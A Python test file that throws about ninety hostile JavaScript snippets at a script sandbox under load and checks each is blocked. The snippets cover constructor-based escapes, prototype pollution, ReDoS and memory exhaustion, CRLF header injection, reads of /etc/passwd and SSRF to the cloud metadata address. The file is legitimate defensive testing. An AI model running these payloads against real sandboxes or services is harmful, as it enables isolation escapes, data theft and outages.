# ruff: noqa: E501 - a table
"""What scripts try in order to get out, to harm others, or to learn what is not theirs. All of it on one server, under load."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Final

import pytest
from tests.conformance.apps.town import Town, open_town
from tests.timing import alike

from runstead.kernel.secret import Secret
from runstead.platform.execution.script import ScriptPool
from runstead.platform.storage.sql import Database

CANARY: Final = "canary-of-the-vault-0815"
#: ``=text`` is what comes back; ``!text`` is what the error says; ``limit``: one of the limits ends it, by name; ``any``: nothing leaks.
CASES: Final[dict[str, tuple[str, str]]] = {
    # Code from text, and what other runtimes have.
    "function constructor": ("return (() => {}).constructor('return 7')()", "!code from text"),
    "function by name": ("return new Function('return 7')()", "!code from text"),
    "array to function": ("return [].filter.constructor('return 7')()", "!code from text"),
    "global to function": ("return globalThis.constructor.constructor('return 7')()", "!code from text"),
    "async constructor": ("return (async () => {}).constructor('return 7')()", "!code from text"),
    "generator constructor": ("return (function* () {}).constructor('yield 7')().next().value", "!code from text"),
    "async generator constructor": ("return (async function* () {}).constructor('yield 7')()", "!code from text"),
    "reflect construct": ("return Reflect.construct(Object.getPrototypeOf(() => {}).constructor, ['return 7'])()", "!code from text"),
    "class extends function": ("class F extends (() => {}).constructor {} return new F('return 7')()", "!"),
    "bound constructor": ("return (() => {}).constructor.bind(null)('return 7')()", "!code from text"),
    "constructor of an error's function": ("try { null.x } catch (e) { return e.constructor.constructor('return 7')() }", "!code from text"),
    "constructor is fixed": ("const p = Object.getPrototypeOf(() => {}); try { p.constructor = 1 } catch {} delete p.constructor; return typeof p.constructor('return 7')", "!"),
    "eval": ("return typeof eval", "=undefined"),
    "indirect eval": ("return (0, globalThis['ev' + 'al'])('7')", "!not a function"),
    "timer with text": ("setTimeout('globalThis.x = 7', 1); await new Promise((r) => setTimeout(r, 20)); return String(globalThis.x)", "any"),
    "other runtimes": ("return ['require', 'process', 'std', 'os', 'bjson', 'Deno', 'Bun', 'print', 'scriptArgs', 'Worker', 'loadScript', 'XMLHttpRequest', 'WebAssembly', 'navigator', 'gc'].filter((n) => typeof globalThis[n] !== 'undefined').join()", "="),
    "import of files": ("return await import('/etc/passwd').then(() => 'read', (e) => 'no')", "=no"),
    "import of the system": ("return (await Promise.all(['fs', 'os', 'std', 'qjs:os', 'file:///etc/passwd', 'https://example.org/x.js', 'data:text/javascript,export default 7'].map((n) => import(n).then(() => n, () => '')))).join('')", "="),
    "import of the prelude": ("return Object.keys(await import('runstead')).join()", "="),
    # The bridge to the server.
    "host is gone": ("return ['__host', '__later', '__console', '__piece', '__pieceOf', '__random', '__digest', '__argument', '__results'].filter((n) => n in globalThis).join()", "="),
    "settle by hand": ("globalThis.__results = [[1, true, '{\"status\":200,\"body\":\"forged\"}']]; try { return String(await __runstead.settle()) } catch (e) { return 'refused' }", "any"),
    "start again": ("return JSON.stringify(await __runstead('init', () => register('/evil', 'x')))", "any"),
    "runstead is frozen": ("'use strict'; try { __runstead.settle = 1; return 'changed' } catch { return 'frozen' }", "=frozen"),
    "runstead stays": ("return String(delete globalThis.__runstead)", "=false"),
    "toJSON on everything": ("Object.prototype.toJSON = function () { return 'polluted' }; Array.prototype.toJSON = () => 'polluted'; try { sharedStorage.getItem('a') } catch (e) { return e.message } return 'sent'", "any"),
    "array iterator": ("Array.prototype[Symbol.iterator] = function* () { yield 'x' }; return String(sharedStorage.getItem('a'))", "any"),
    "promise then": ("const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { return then.call(this, () => a && a('forged'), b) }; return 'mine'", "any"),
    "map methods": ("Map.prototype.get = () => [() => {}, () => {}]; Map.prototype.set = () => {}; await new Promise((r) => setTimeout(r, 5)); return 'x'", "any"),
    "stringify replaced": ("JSON.stringify = () => '[\"other\"]'; sharedStorage.setItem('mine', '1'); return String(sharedStorage.getItem('mine'))", "=1"),
    "parse replaced": ("JSON.parse = () => 'forged'; return String(sharedStorage.getItem('nothing'))", "=null"),
    "prototype of the global": ("Object.setPrototypeOf(globalThis, null); return typeof Response", "=function"),
    "prototype proxy": ("const p = Object.getPrototypeOf(globalThis); return String(Reflect.get(p, '__host')) + String(p.constructor === Object)", "=undefinedtrue"),
    "piece names": ("return ['core', 'later', 'answer', '../core'].map((n) => typeof globalThis[n]).join()", "=undefined,undefined,undefined,undefined"),
    "default response fields": ("Object.prototype.status = 299; Object.prototype.body = 'polluted'; return { headers: {} }", "any"),
    "getter key": ("let n = 0; return String(sharedStorage.getItem({ toString() { n += 1; return 'k' + n } })) + n", "=null1"),
    "proxy argument": ("return await fetch(new Proxy({}, { get() { throw new Error('trap') } })).then(() => 'sent', (e) => e.message)", "=trap"),
    "proxy response": ("return new Proxy({}, { has: () => true, ownKeys: () => { throw new Error('trap') }, get: (t, k) => (k === 'then' ? undefined : k === 'status' ? 200 : k === 'body' ? 'proxied' : undefined) })", "any"),
    "changing status": ("let n = 0; return { get status() { n += 1; return n > 1 ? 9999 : 200 }, body: 'x' }", "any"),
    "huge arguments": ("return sharedStorage.setItem('k', 'x'.repeat(300000))", "!262144"),
    "lone surrogates": ("sharedStorage.setItem('\\ud800', '\\udfff\\u0000'); return 'kept'", "any"),
    "unknown calls": ("const before = Object.keys(tools ?? {}); return before.join()", "!tools is not defined"),
    "other app's key": ("return String(sharedStorage.getItem('../other/key')) + String(sharedStorage.getItem(\"x' OR '1'='1\"))", "=nullnull"),
    # Promises and generators.
    "thenable of itself": ("return { then(resolve) { resolve(this) } }", "limit"),
    "microtasks for ever": ("for (;;) await 0", "limit"),
    "promises for ever": ("const f = () => Promise.resolve().then(f); return f()", "limit"),
    "promise that never settles": ("return new Promise(() => {})", "!nothing can settle"),
    "rejected and forgotten": ("Promise.reject(new Error('forgotten')); return 'on'", "any"),
    "throws undefined": ("throw undefined", "!thrown"),
    "throws a proxy": ("throw new Proxy({}, { get() { throw new Error('again') }, getPrototypeOf() { throw new Error('again') } })", "any"),
    "error with a getter": ("const e = new Error('x'); Object.defineProperty(e, 'message', { get() { for (;;); } }); throw e", "any"),
    "timers without end": ("const again = () => setTimeout(again, 0); again(); return 'left'", "=left"),
    "generator without end": ("return [...(function* () { for (;;) yield 1 })()].length", "limit"),
    "async recursion": ("const f = async (n) => (n ? await f(n - 1) : 0); return await f(1e6)", "limit"),
    "await in a finally": ("try { for (;;); } finally { for (;;); }", "limit"),
    "catches the limit": ("for (;;) { try { for (;;); } catch { continue } }", "limit"),
    # Time.
    "spin": ("for (;;);", "limit"),
    "regular expression": ("return /^(a+)+$/.test('a'.repeat(40) + 'b')", "limit"),
    "regular expression 2": ("return /(x+x+)+y/.exec('x'.repeat(60))", "limit"),
    "sort": ("const a = Array.from({ length: 1e6 }, (_, i) => -i); for (;;) a.sort(() => Math.random() - 0.5)", "limit"),
    "string search": ("const s = 'a'.repeat(1e6); for (;;) s.indexOf('b')", "limit"),
    "replace callback": ("for (;;) 'aaaa'.replace(/a/g, () => 'a')", "limit"),
    "bigint power": ("return String(3n ** (10n ** 7n)).length", "limit"),
    "bigint doubling": ("let n = 3n; for (;;) n = n * n", "limit"),
    "getter loop": ("const o = { get x() { for (;;); } }; return JSON.stringify(o)", "limit"),
    "proxy loop": ("const p = new Proxy({}, { get: (t, k, r) => r[k] }); return p.x", "limit"),
    # Memory and stack.
    "array of arrays": ("const a = []; for (;;) a.push(new Array(1000).fill(0))", "limit"),
    "string doubling": ("let s = 'x'; for (;;) s += s", "limit"),
    "repeat": ("return 'x'.repeat(2 ** 29).length", "limit"),
    "buffer": ("return new ArrayBuffer(2 ** 30).byteLength", "limit"),
    "typed arrays": ("const a = []; for (;;) a.push(new Uint8Array(1 << 20))", "limit"),
    "array fill": ("return new Array(2 ** 27).fill({}).length", "limit"),
    "join": ("return new Array(2 ** 28).join('xxxxxxxx').length", "limit"),
    "pad": ("return ''.padEnd(2 ** 29, 'ab').length", "limit"),
    "map of strings": ("const m = new Map(); for (let i = 0; ; i += 1) m.set('key' + i, 'x'.repeat(100))", "limit"),
    "closures": ("let f = () => 0; for (;;) { const g = f; f = () => g() }", "limit"),
    "symbols": ("const a = []; for (;;) a.push(Symbol('x'.repeat(1000)))", "limit"),
    "recursion": ("const f = () => f() + 1; return f()", "limit"),
    "recursion by json": ("const o = {}; let p = o; for (let i = 0; i < 1e5; i += 1) p = p.x = {}; return JSON.stringify(o).length", "limit"),
    "recursion by parse": ("return JSON.parse('['.repeat(1e6) + ']'.repeat(1e6)).length", "limit"),
    "recursion by tostring": ("const a = []; a[0] = { toString: () => String(a) + a[0] }; return String(a[0])", "limit"),
    "recursion by regexp": ("return new RegExp('('.repeat(1e5) + ')'.repeat(1e5)).test('')", "limit"),
    "nested response": ("let o = 1; for (let i = 0; i < 1e4; i += 1) o = [o]; return o", "limit"),
    "sparse": ("const a = []; a[4294967294] = 1; return a.map((x) => x).length + JSON.stringify(a).length", "limit"),
    # Answers.
    "large body": ("return 'x'.repeat(11 * 1024 * 1024)", "limit"),
    "status": ("return { status: 99999, body: '' }", "!status"),
    "header injection": ("return new Response('x', { headers: { 'x-a': 'b\\r\\nset-cookie: stolen=1' } })", "!line break"),
    "header name": ("return new Response('x', { headers: { 'x: y\\r\\nz': '1' } })", "!no name of a header"),
    "many headers": ("return { status: 200, body: '', headers: Object.fromEntries(Array.from({ length: 5000 }, (_, i) => ['x-' + i, 'v'])) }", "!headers"),
    "framing": ("return new Response('x', { headers: { 'content-length': '9999', 'transfer-encoding': 'chunked' } })", "=x"),
    "console flood": ("for (let i = 0; i < 1e5; i += 1) console.log('x'.repeat(1000)); return 'done'", "any"),
    "console of a circle": ("const o = {}; o.o = o; o.get = new Proxy({}, { ownKeys() { throw 1 } }); console.log(o); return 'done'", "=done"),
    "calls without end": ("for (;;) sharedStorage.getItem('x')", "limit"),
    # Secrets.
    "other app's secret": ("return String(secretStorage.exists('theirs')) + secretStorage.list().join()", "=falsemine"),
    "secret in the address": ("return await fetch('http://{{secret:mine}}.example.org/').then(() => 'sent', (e) => e.message)", "any"),
    "secret in a header that comes back": ("return await fetch('http://127.0.0.1:1/', { headers: { a: '{{secret:mine}}' } }).then(() => 'sent', (e) => e.message + e.stack)", "any"),
    "secret of another in a header": ("return await fetch('http://127.0.0.1:1/', { headers: { a: '{{secret:theirs}}' } }).then(() => 'sent', (e) => e.message)", "=fetch: a secret that the request names is not to be had"),
    "secret that is none": ("return await fetch('http://127.0.0.1:1/', { headers: { a: '{{secret:nothing}}' } }).then(() => 'sent', (e) => e.message)", "=fetch: a secret that the request names is not to be had"),
    "everything that is global": ("return Object.getOwnPropertyNames(globalThis).map((n) => { try { return String(globalThis[n]) } catch { return '' } }).join()", "any"),
    "stack of the server": ("try { sharedStorage.setItem('', '') } catch (e) { return e.message + e.stack } return ''", "any"),
    "metadata address": ("return await fetch('http://169.254.169.254/latest/meta-data/').then(() => 'sent', (e) => e.message)", "=169.254.169.254 is not to be asked: it is not public"),
    "own server": ("return await fetch('http://[::ffff:10.0.0.1]/').then(() => 'sent', (e) => 'refused')", "=refused"),
    "file address": ("return await fetch('file:///etc/passwd').then(() => 'sent', (e) => 'refused')", "=refused"),
}  # fmt: skip
LIMITS: Final = frozenset(
    {"E_SCRIPT_TIMEOUT", "E_SCRIPT_MEMORY", "E_SCRIPT", "E_APP_RESPONSE", "E_SCRIPT_CRASH", "E_TIMEOUT"}
)
LEAKS: Final = (
    CANARY,
    "site-packages",
    "Traceback",
    "/sealed/",
    "quickjs.py",
    "worker.py",
    "MASTER",
    "PATH=",
)


async def judged(name: str, expected: str, said: Awaitable[tuple[int, str, str]]) -> str:
    status, code, text = await said
    if leaked := [one for one in LEAKS if one in text]:
        return f"{name}: leaks {leaked}: {text[:200]}"
    kind, rest = expected[0], expected[1:]
    fits = {
        "=": status == 200 and text == rest,
        "!": status >= 400 and rest in text,
        "l": status >= 400 and code in LIMITS,
        "a": True,
    }[kind]
    return "" if fits else f"{name}: wanted {expected}, got {status} {text[:200]}"


@pytest.mark.req("SEC-009", "TEST-008")
@pytest.mark.timeout(240)
async def test_nothing_gets_out_and_nobody_else_is_harmed(tmp_path: Path, sqlite_url: str) -> None:
    cases = list(CASES.items())
    handlers = "".join(
        f"async function case{number}(context) {{ {code} }}\n" for number, (_, (code, _)) in enumerate(cases)
    )
    routes = "".join(f"register('/case/{number}', 'case{number}', 'POST');" for number in range(len(cases)))
    async with (
        Database(sqlite_url) as database,
        ScriptPool(workers=2) as pool,
        open_town(
            database, sqlite_url, tmp_path, pool, script_timeout_ms=250, request_timeout_ms=20_000
        ) as town,
    ):
        await town.vault.put("mine", Secret(CANARY), scope="app:evil")
        await town.vault.put("theirs", Secret(CANARY + "2"), scope="app:good")
        await town.put(
            "good",
            "let seen = 0; function hello(c) { seen += 1; Object.prototype.mine = c.query.n; return `${seen} ${c.query.n} ${({}).mine}`; } function init() { register('/good', 'hello'); }",
        )
        await town.put("evil", f"{handlers}\nfunction init() {{ {routes} }}")
        done = asyncio.Event()
        harmed: list[str] = []

        async def load() -> None:
            number = 0
            while not done.is_set():
                number += 1
                answer = await town.client.get("/good", params={"n": number})
                if answer.text != f"1 {number} {number}":
                    harmed.append(f"{answer.status_code} {answer.text[:100]}")

        async def one(number: int, name: str, expected: str) -> str:
            async def ask() -> tuple[int, str, str]:
                answer = await town.client.post(f"/case/{number}")
                is_json = "json" in answer.headers.get("content-type", "")
                body = answer.json() if is_json and answer.text.startswith('{"error"') else {}
                return (
                    answer.status_code,
                    body.get("error", {}).get("code", "") if isinstance(body.get("error"), dict) else "",
                    answer.text,
                )

            return await judged(name, expected, ask())

        users = [asyncio.create_task(load()) for _ in range(2)]
        wrong = []
        for start in range(0, len(cases), 2):
            pairs = list(enumerate(cases))[start : start + 2]
            wrong += await asyncio.gather(
                *(one(number, name, expected) for number, (name, (_, expected)) in pairs)
            )
        done.set()
        await asyncio.gather(*users)
        assert not harmed, harmed[:5]
        assert [text for text in wrong if text] == []
        assert len(CASES) >= 60
        assert (await town.client.get("/evil")).status_code == 404
        assert not any(CANARY in line for line in town.lines())
        assert (await town.client.get("/healthz")).status_code == 200


@pytest.mark.req("JSAPI-008")
async def test_existence_does_not_show_in_time(town: Town) -> None:
    """Whether another app has a secret of a name takes no longer to deny than whether anybody has."""
    await town.vault.put("theirs", Secret(CANARY), scope="app:other")
    await town.put(
        "asks",
        "function ask(c) { return String(secretStorage.exists(c.query.id)); } function init() { register('/ask', 'ask'); }",
    )

    async def ask(name: str) -> None:
        assert (await town.client.get("/ask", params={"id": name})).text == "false"

    await alike(lambda: ask("theirs"), lambda: ask("nobodys"))


@pytest.mark.req("JS-001")
async def test_apps_and_requests_are_apart_under_load(
    database: Database, database_url: str, tmp_path: Path, pool: ScriptPool
) -> None:
    """Two apps, two hundred requests at once: nobody sees another's data, and nothing stays from request to request."""
    # A machine that is busy with other tests takes its time; that is not what is looked at here.
    patient = {"script_timeout_ms": 30_000, "request_timeout_ms": 60_000}
    async with open_town(database, database_url, tmp_path, pool, **patient) as town:
        await _apart(town)


async def _apart(town: Town) -> None:
    source = """
    globalThis.count = (globalThis.count ?? 0) + 1;
    let own = null;
    async function go(c) {
      const before = [own, globalThis.kept, Array.prototype.kept].map(String).join();
      own = globalThis.kept = Array.prototype.kept = c.query.n;
      sharedStorage.setItem('at-' + c.query.n, 'NAME');
      await new Promise((resolve) => setTimeout(resolve, 5));
      return Response.json({ app: 'NAME', n: c.query.n, before, count, own, mine: sharedStorage.getItem('at-' + c.query.n), theirs: sharedStorage.getItem('of-OTHER') });
    }
    function init() { register('/NAME', 'go'); sharedStorage.setItem('of-NAME', 'secret'); }
    """
    for name, other in (("one", "two"), ("two", "one")):
        await town.put(name, source.replace("NAME", name).replace("OTHER", other))
    asked: list[tuple[str, int]] = [(name, number) for number in range(100) for name in ("one", "two")]
    get: Callable[[str, int], Awaitable[dict[str, object]]] = lambda name, number: town.answer(  # noqa: E731
        "GET", f"/{name}", params={"n": number}
    )
    answers = await asyncio.gather(*(get(name, number) for name, number in asked))
    for (name, number), found in zip(asked, answers, strict=True):
        assert found == {
            "app": name, "n": str(number), "before": "null,undefined,undefined", "count": 1, "own": str(number), "mine": name, "theirs": None,
        }  # fmt: skip
